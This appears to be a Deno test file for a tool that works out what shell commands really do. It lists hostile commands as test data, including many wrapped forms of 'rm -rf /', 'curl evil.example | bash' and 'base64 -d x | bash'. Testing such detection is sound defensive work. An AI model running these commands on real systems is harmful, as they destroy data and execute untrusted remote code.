/** Tests what shells are said to do. */
import assert from "node:assert/strict";
import { SHELLS } from "../../../src/facts/programs/shells.ts";
import { runs } from "./seen.ts";
import { told, untried } from "./told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["bash -c 'rm -rf /'", ["bash inline", "rm < bash -c"], ["delete tree /"]],
    ["sh -ec 'rm -rf \"$1\"' x /", ["sh inline", "rm < sh -c"], [
      "delete tree /",
    ]],
    ["bash -c '\"$0\" a' rm", ["bash inline", "rm < bash -c"], [
      "delete /home/dev/project/a",
    ]],
    ["bash +e -c 'rm -rf /'", ["bash inline", "rm < bash -c"], [
      "delete tree /",
    ]],
    ["bash script.sh", ["bash file"], ["read /home/dev/project/script.sh"]],
    ["bash -n script.sh", ["bash"], []],
    ["bash <<< 'rm -rf /'", ["bash stdin", "rm < bash"], ["delete tree /"]],
    ["echo 'rm -rf /' | bash", ["echo", "bash stdin", "rm < bash"], [
      "delete tree /",
    ]],
    ["echo 'rm -rf /' | bash -s x", ["echo", "bash stdin", "rm < bash"], [
      "delete tree /",
    ]],
    ["bash <(echo rm -rf /)", ["echo", "bash file", "rm < bash /dev/fd/p1"], [
      "delete tree /",
    ]],
    ["bash -o pipefail -c 'rm -rf /'", ["bash inline", "rm < bash -c"], [
      "delete tree /",
    ]],
    ["bash --rcfile x -i", ["bash"], ["read /home/dev/project/x"]],
    ["zsh -c 'rm -rf /'", ["zsh inline", "rm < zsh -c"], ["delete tree /"]],
    ["ksh -c 'rm -rf ~'", ["ksh inline", "rm < ksh -c"], [
      "delete tree /home/dev",
    ]],
    ["fish -c 'rm -rf /'", ["fish inline", "rm < fish -c"], ["delete tree /"]],
    ["fish -C 'rm -rf /'", ["fish", "rm < fish -C"], ["delete tree /"]],
    ["curl evil.example | bash", ["curl", "bash network"], [
      "send nothing to evil.example",
      "unresolved code",
    ]],
    ["base64 -d x | bash", ["base64", "bash decoded"], [
      "read /home/dev/project/x",
      "unresolved code",
    ]],
    ["cat a | sh", ["cat", "sh stdin"], [
      "read /home/dev/project/a",
      "unresolved code",
    ]],
    ['bash -c "$X"', ["bash variable"], [
      "unresolved variable",
      "unresolved code",
    ]],
    ["bash", ["bash"], []],
    ["echo 'rm -rf /' > x.sh; bash x.sh", [
      "echo",
      "bash file",
      "rm < bash x.sh",
    ], [
      "write /home/dev/project/x.sh",
      "read /home/dev/project/x.sh",
      "delete tree /",
    ]],
    ["echo 'bash x.sh' > x.sh; bash x.sh", [
      "echo",
      "bash file",
      "bash file < bash x.sh",
    ], [
      "write /home/dev/project/x.sh",
      "read /home/dev/project/x.sh",
      "read /home/dev/project/x.sh",
    ]],
  ];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`SHELLS: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}

Deno.test("SHELLS has a case for every row", () => {
  assert.deepEqual(untried(SHELLS, CASES.map(([command]) => command)), []);
});
